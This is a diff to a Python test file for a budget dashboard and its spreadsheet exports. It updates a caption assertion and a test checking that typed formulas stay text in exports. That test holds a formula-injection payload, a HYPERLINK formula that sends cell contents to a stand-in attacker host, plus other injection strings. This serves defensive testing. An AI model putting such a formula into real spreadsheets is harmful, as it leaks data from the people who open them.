@@ -299,7 +299,7 @@ def test_the_dashboard_shows_the_figures_and_a_chart_with_a_data_table(dashboard
     world, _period = dashboard_world
     body = client_for(world.people["management"]).get(reverse("budget_dashboard")).content.decode()
     assert "<svg" in body and "<polyline" in body
-    assert "Cumulative committed costs per month" in body
+    assert "Cumulative costs per month" in body
     assert "€5,125.00" in body and "€6,201.25" in body
     assert "Approve this budget (MT)" in body
 
@@ -394,7 +394,7 @@ def test_a_formula_typed_as_text_stays_text_in_both_exports(world, period, clien
     from openpyxl import load_workbook
 
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
-    cost(world, period, "10.00", supplier=formula, description="@SUM(1+1)", invoice_number="-2+3")
+    cost(world, period, "10.00", agency=None, supplier=formula, description="@SUM(1+1)", invoice_number="-2+3")
     client = client_for(world.people["management"])
     workbook = load_workbook(io.BytesIO(client.get(reverse("budget_export_xlsx", args=[period.pk])).content))
     row = next(workbook["Cost lines"].iter_rows(min_row=2))
